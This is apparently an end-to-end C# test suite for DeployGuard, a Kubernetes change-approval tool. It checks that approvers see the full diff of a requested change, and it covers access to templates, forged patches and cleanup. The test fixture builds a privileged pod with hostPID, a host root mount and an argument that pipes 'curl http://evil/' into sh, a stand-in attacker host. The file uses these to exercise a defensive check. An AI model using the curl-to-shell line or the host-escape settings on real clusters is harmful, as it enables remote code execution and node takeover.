using System.Text.Json.Nodes;
using DeployGuard.Rig;
using static DeployGuard.EndToEnd.Sandbox;

namespace DeployGuard.EndToEnd;

/// <summary>
/// An approver sees everything that they approve. The whole template of the request is on record, for users with access to the workload,
/// as long as its Change.
/// </summary>
[Parallelizable(ParallelScope.All)]
public class FullTemplateTests
{
    private const string Command = "--config=/etc/web/config.yaml --listen=:8080 --log-level=info --log-format=json";

    [Test]
    public async Task WholeDiffIsShownBeforeTheVote()
    {
        var sandbox = await WithCommandRunningAsync();
        var change = await RequestPrivilegedChangeAsync(sandbox);

        var shown = await sandbox.KubectlAsync("alice", "deployguard", "show", change);
        var approved = (await sandbox.ApproveAsync("alice", change)).OrFail();

        string[] all =
        [
            "+ spec.containers[web].securityContext.privileged: true",
            "+ spec.hostPID: true",
            "+ spec.volumes[h].hostPath.path: /",
            $"- * {Command}",
            $"+ * {Command} --then=curl http://evil/|sh",
            "+ spec.containers[web].env[SETTING_29].value: on",
        ];
        Assert.That(shown.Succeeded, Is.True, shown.Output);
        foreach (var line in all)
        {
            Assert.That(shown.Output, Does.Contain(line));
            Assert.That(approved.Output, Does.Contain(line));
        }

        Assert.That(
            approved.Output.IndexOf("privileged: true", StringComparison.Ordinal),
            Is.LessThan(approved.Output.IndexOf("SETTING_00", StringComparison.Ordinal))
        );
        var diff = (await sandbox.KubectlAsync("alice", "get", "change", change, "-o", "jsonpath={.spec.diff}")).Output;
        Assert.That(diff, Does.Contain("securityContext.privileged").And.Contain("--then=curl"), "the short form shows them too");
    }

    [Test]
    public async Task TemplateIsReadableOnlyWithAccessToTheWorkload()
    {
        var sandbox = await WithCommandRunningAsync();
        var change = await RequestPrivilegedChangeAsync(sandbox);

        Assert.That((await MayAsync(sandbox, "walt", [])).Output, Does.StartWith("no"));
        Assert.That((await MayAsync(sandbox, "dana", ["--as-group=developers"])).Output, Does.StartWith("yes"));
        (await sandbox.KubectlAsync("admin", "create", "rolebinding", "walt", "--clusterrole=view", "--user=walt")).OrFail();
        await Wait.UntilAsync(
            () => MayAsync(sandbox, "walt", []),
            run => run.Output.StartsWith("yes", StringComparison.Ordinal),
            "walt to have the permissions of view"
        );
        Assert.That((await sandbox.KubectlAsync("admin", "get", "changetemplate", change, "--as=walt")).Succeeded, Is.True);
    }

    [Test]
    public async Task MissingTemplateIsReportedAndWrittenAgainByTheNextRequest()
    {
        var sandbox = await WithCommandRunningAsync();
        var change = await RequestPrivilegedChangeAsync(sandbox);
        // The API server sends a refused update twice, to two replicas: the other may still write the template.
        var cut = await Wait.UntilAsync(
            async () =>
            {
                (await sandbox.KubectlAsync("deployguard", "delete", "changetemplate", change, "--ignore-not-found")).OrFail();
                return await sandbox.KubectlAsync("alice", "deployguard", "show", change);
            },
            run => !run.Succeeded,
            "the whole template to be gone"
        );
        Assert.That(
            cut.Output,
            Does.Contain("INCOMPLETE: the template cannot be shown in full")
                .And.Contain("spec.hostPID: (absent) -> true")
                .And.Contain("ask the requester to apply the change again")
        );

        await RequestPrivilegedChangeAsync(sandbox);
        (await sandbox.KubectlAsync("alice", "deployguard", "show", change)).OrFail();
    }

    [Test]
    public async Task TemplateIsWrittenByDeployGuardOnlyAndDeletedWithItsChange()
    {
        var sandbox = await WithCommandRunningAsync();
        var change = await RequestPrivilegedChangeAsync(sandbox);

        foreach (var user in (string[])["dana", "admin"])
        {
            var forged = await sandbox.KubectlAsync(
                "admin",
                "patch",
                "changetemplate",
                change,
                "--type=merge",
                "-p",
                """{"spec": {"beforeIsUnknown": true}}""",
                user == "admin" ? "--as-group=system:masters" : "--as-group=developers",
                $"--as={user}"
            );
            Assert.That(forged.Succeeded, Is.False, user);
        }

        Assert.That((await sandbox.KubectlAsync("admin", "delete", "changetemplate", change)).Output, Does.Contain("ManagedByDeployGuard"));
        (await sandbox.KubectlAsync("deployguard", "delete", "change", change)).OrFail();
        await Wait.UntilAsync(
            () => sandbox.KubectlAsync("admin", "get", "changetemplate", change),
            run => run.Output.Contains("NotFound", StringComparison.Ordinal),
            "the garbage collector to delete the template with its Change"
        );
    }

    [Test]
    public async Task NamespaceWithTemplatesCanBeDeleted()
    {
        var sandbox = await WithCommandRunningAsync();
        await RequestPrivilegedChangeAsync(sandbox);

        (await TestCluster.Rig.Plane.KubectlAsync("admin", "delete", "namespace", sandbox.Namespace, "--timeout=120s")).OrFail();
    }

    private static Task<Run> MayAsync(Sandbox sandbox, string user, string[] more) =>
        sandbox.KubectlAsync("admin", ["auth", "can-i", "get", "changetemplates", $"--as={user}", .. more]);

    private static async Task<Sandbox> WithCommandRunningAsync()
    {
        var sandbox = await UnguardedAsync();
        var web = Web(V1);
        Container(web)["args"] = new JsonArray(Command);
        (await sandbox.ApplyAsync("admin", web)).OrFail();
        await sandbox.IsRolledOutAsync("web");
        await sandbox.GuardAsync("guarded");
        return sandbox;
    }

    /// <returns>The pending Change, once its whole template is on record.</returns>
    private static async Task<string> RequestPrivilegedChangeAsync(Sandbox sandbox)
    {
        var web = Web(V1);
        var container = Container(web);
        container["args"] = new JsonArray($"{Command} --then=curl http://evil/|sh");
        container["env"] = new JsonArray([
            .. Enumerable.Range(0, 30).Select(i => (JsonNode)new JsonObject { ["name"] = $"SETTING_{i:00}", ["value"] = "on" }),
        ]);
        container["securityContext"] = new JsonObject { ["privileged"] = true };
        container["volumeMounts"] = new JsonArray(new JsonObject { ["name"] = "h", ["mountPath"] = "/host" });
        var pod = Pod(web);
        pod["hostPID"] = true;
        pod["volumes"] = new JsonArray(
            new JsonObject
            {
                ["name"] = "h",
                ["hostPath"] = new JsonObject { ["path"] = "/" },
            }
        );
        Assert.That((await sandbox.ApplyAsync("dana", web)).Output, Does.Contain("ApprovalMissing"));
        var change = await sandbox.ChangeInPhaseAsync("Pending");
        await Wait.UntilAsync(
            () => sandbox.KubectlAsync("alice", "get", "changetemplate", change),
            run => run.Succeeded,
            "the whole template to be on record"
        );
        return change;
    }

    private static JsonObject Pod(JsonObject web) =>
        web["spec"]?["template"]?["spec"]?.AsObject() ?? throw new InvalidOperationException("no pod");

    private static JsonObject Container(JsonObject web) =>
        Pod(web)["containers"]?[0]?.AsObject() ?? throw new InvalidOperationException("no container");
}
